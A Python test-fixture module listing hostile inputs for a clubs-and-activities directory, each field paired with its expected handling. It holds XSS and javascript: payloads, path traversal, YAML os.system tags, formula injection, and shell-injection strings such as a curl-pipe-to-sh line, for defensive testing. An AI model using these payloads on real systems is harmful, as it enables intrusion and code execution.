"""What a stranger can send, and what must come of it, by each way in."""

from __future__ import annotations

from dataclasses import dataclass

LITERAL = "as typed"  # in the file, and read back as it was typed
CLEANED = "put right"  # in the file, without what nobody can see, on one line, or with plain line ends
LEFT_OUT = "left out"  # the rest is in the file, and the editor hears of it
TO_CORRECT = "to correct"  # in the file, which waits for the editor because every record needs it
REFUSED = "refused"  # nothing is made of it


@dataclass(frozen=True)
class Case:
    """One text in one field."""

    number: str  # as in the list of hostile inputs
    field: str  # name, summary, description, phone, email, website, notes (of the cost), steps (of the first visit)
    text: str
    outcome: str
    private: tuple[str, ...] = ()  # what may be nowhere: not in the file, not in what is said


CASES = [
    # B: what would be YAML, as a value
    *(
        Case("B", "name", text, LITERAL)
        for text in ("yes no", "null ~", "{a: b}", "[a, b]", "&a *a", "!!python/object:os.system x", "- item", "1e3 x")
    ),
    *(Case("B", "summary", f"A walk for everybody, {text}", LITERAL) for text in ("a: b", "'quoted\" \\", "%TAG ! x")),
    Case("B34", "summary", "A walk for everybody # and this too", LITERAL),
    Case("B", "description", "Come along.\nsensitive: no\nprivate: {a: b}\n---\n...\nformer_ids: [chat]", LITERAL),
    Case("B", "description", "x\n  - y\n\tz\n# not a comment\n|\n>", CLEANED),
    # C
    Case("C5", "name", "x" * 500, TO_CORRECT),
    Case("C5", "name", "x", TO_CORRECT),
    Case("C5", "name", "?!", TO_CORRECT),
    Case("C7", "description", "word " * 1100, LEFT_OUT),
    Case("C16", "phone", "٠١٦٣٢ ٩٦٠٧٧٧", LEFT_OUT),
    # D: a name is never a path
    *(
        Case("D1", "name", text, LITERAL)
        for text in ("../../etc/passwd", "/abs path", "a\\b club", "C:x club", "%2e%2e/club", "name:stream")
    ),
    *(Case("D5", "name", text, LITERAL) for text in ("con", "Nul", "lpt1", "Aux.")),
    *(Case("D6", "name", text, LITERAL) for text in ("Index", "search", "Sitemap", "404")),
    Case("D7", "name", "北京", LITERAL),
    # E: markup is what it looks like
    *(
        Case("E", field, f"Come {text} along to our walk", LITERAL)
        for field in ("summary", "description", "steps")
        for text in (
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</title></article>",
            "<!-- hidden -->",
            "{{ config }} {% raw %}",
            '--8<-- "/etc/hosts"',
            "{: onclick=alert(1) }",
            "<!--<script",
        )
    ),
    Case("E10", "description", "[a](javascript:alert(1)) and [b](JaVa&#9;Script:x)", LITERAL),
    Case("E16", "description", "![us](https://example.org/pixel.png)", LEFT_OUT),
    Case("E18", "description", "1. - - " * 66, CLEANED),
    Case("E19", "description", "[a](" * 200, LITERAL),
    # F
    *(
        Case("F1", "website", text, LEFT_OUT)
        for text in (
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/hosts",
            "ftp://example.org",
            "//example.org",
        )
    ),
    Case("F2", "website", "https://jo:hunter22@example.org/", LEFT_OUT, private=("hunter22",)),
    Case("F3", "website", "https://example.org/a b<x>", LEFT_OUT),
    Case("F5", "website", "https://example.org/" + "x" * 2001, LEFT_OUT),
    *(Case("F7", "email", text, LEFT_OUT) for text in ("a@b", "a@b@example.org", "a@example.org<script>", "=cmd@x.y")),
    Case("F8", "email", "jo.bloggs@gmail.com", LEFT_OUT, private=("jo.bloggs",)),
    Case("F10", "phone", "07700 900123", LEFT_OUT, private=("900123",)),
    # H
    Case("H5", "description", "Sue, AB123456C", LEFT_OUT, private=("AB123456C",)),
    Case("H5", "description", "Quote 9434765919.", LEFT_OUT, private=("9434765919",)),
    Case("H5", "steps", "Pay into 12-34-56 12345678.", LEFT_OUT, private=("12345678",)),
    Case("H5", "summary", "For Ann, DOB 01/02/1950, and her friends.", LEFT_OUT, private=("1950",)),
    Case("H6", "description", "Little Alfie, aged 7, painted the sign.", LEFT_OUT, private=("Alfie",)),
    Case("H7", "description", "Contact Sue Smith 07700 900123", LEFT_OUT, private=("Sue", "900123")),
    Case("H8", "description", "Our volunteer Margaret has dementia.", LEFT_OUT, private=("Margaret", "dementia")),
    Case("H", "description", "We meet at Ann's house, 14 Cork Street.", LEFT_OUT, private=("14 Cork",)),
    Case("H", "steps", "The door code is 4821.", LEFT_OUT, private=("4821",)),
    Case("H", "notes", "The wifi password is correcthorse9", LEFT_OUT, private=("correcthorse9",)),
    # I, J
    *(
        Case("I1", "name", text, LITERAL)
        for text in ('=HYPERLINK("https://example.org")', "+44 club", "-1+1|cmd", "@SUM club")
    ),
    Case("J2", "name", "Tea club END:VEVENT", LITERAL),
    # K
    *(
        Case("K1", "name", text, LITERAL)
        for text in ('"; curl example.org|sh #', "$(id) club", "`id` club", "${{ x }} club")
    ),
    Case("K", "summary", "A walk for @everybody, see #12 and GH-12 and [this](https://example.org)", LITERAL),
    Case("K", "description", "::error file=x::words\n::set-output name=x::y", LITERAL),
]

# Characters that nobody can see: left out of an answer in the form, refused in a record.
UNSEEN = [
    "Chair\u200byoga",
    "Chair\u202eagoy",
    "Chair\u2066yoga",
    "Chair\x1b[31m yoga",
    "Chair\x00yoga",
    "Chair\u2028yoga",
]

# Whole texts that are a record, or should be.
NO_RECORDS = {
    "B1": "a: &a [x]\nb: [*a, *a]\nname: x\n",
    "B2": "name: &n Club\nsummary: *n\n",
    "B3": "name: x\n<<: {a: b}\n",
    "B5": "name: !!python/object/apply:os.system [id]\n",
    "B6": "name: !foo x\n",
    "B7": "name: !!binary aGk=\n",
    "B9": "name: One club\nname: Two clubs\n",
    "B22": "name: " + "[" * 200 + "]" * 200 + "\n",
    "B23": "name: " + "{a: " * 9 + "x" + "}" * 9 + "\n",
    "B24": "name: One\n---\nname: Two\n",
    "B25": "%YAML 1.1\n---\nname: x\n",
    "B26": "- name: x\n",
    "B27": ": x\n",
    "B28": "name: x\ncategories: [" + "a, " * 2100 + "]\n",
    "B29": "name: Bump: a group\n",
    "B30": "name: @group\n",
    "B35": "name:A\n",
    "A2": "# nothing\n",
    "A4": "name: Caf\xe9",  # written as Windows-1252
    "A5": "name: Ca\x00fe\n",
    "A8": "name: x\u0085sensitive: no\n",
    "A11": "a:\n\u00a0\u00a0b: x\n",
    "A13": "a:\n\tb: x\n",
    "D1": "want: change\nentry: ../../etc/passwd\nkind: activity\nrecord: {summary: x}\n",
    "D1b": "want: change\nentry: activities/../../x\nkind: ../../x\nrecord: {summary: x}\n",
    "K": "want: drop\nrecord: {name: x}\n",
    "two records": "```yaml\nname: One\n```\n```yaml\nname: Two\n```\n",
    "too large": "name: x  # " + "x" * 300_000 + "\n",
}
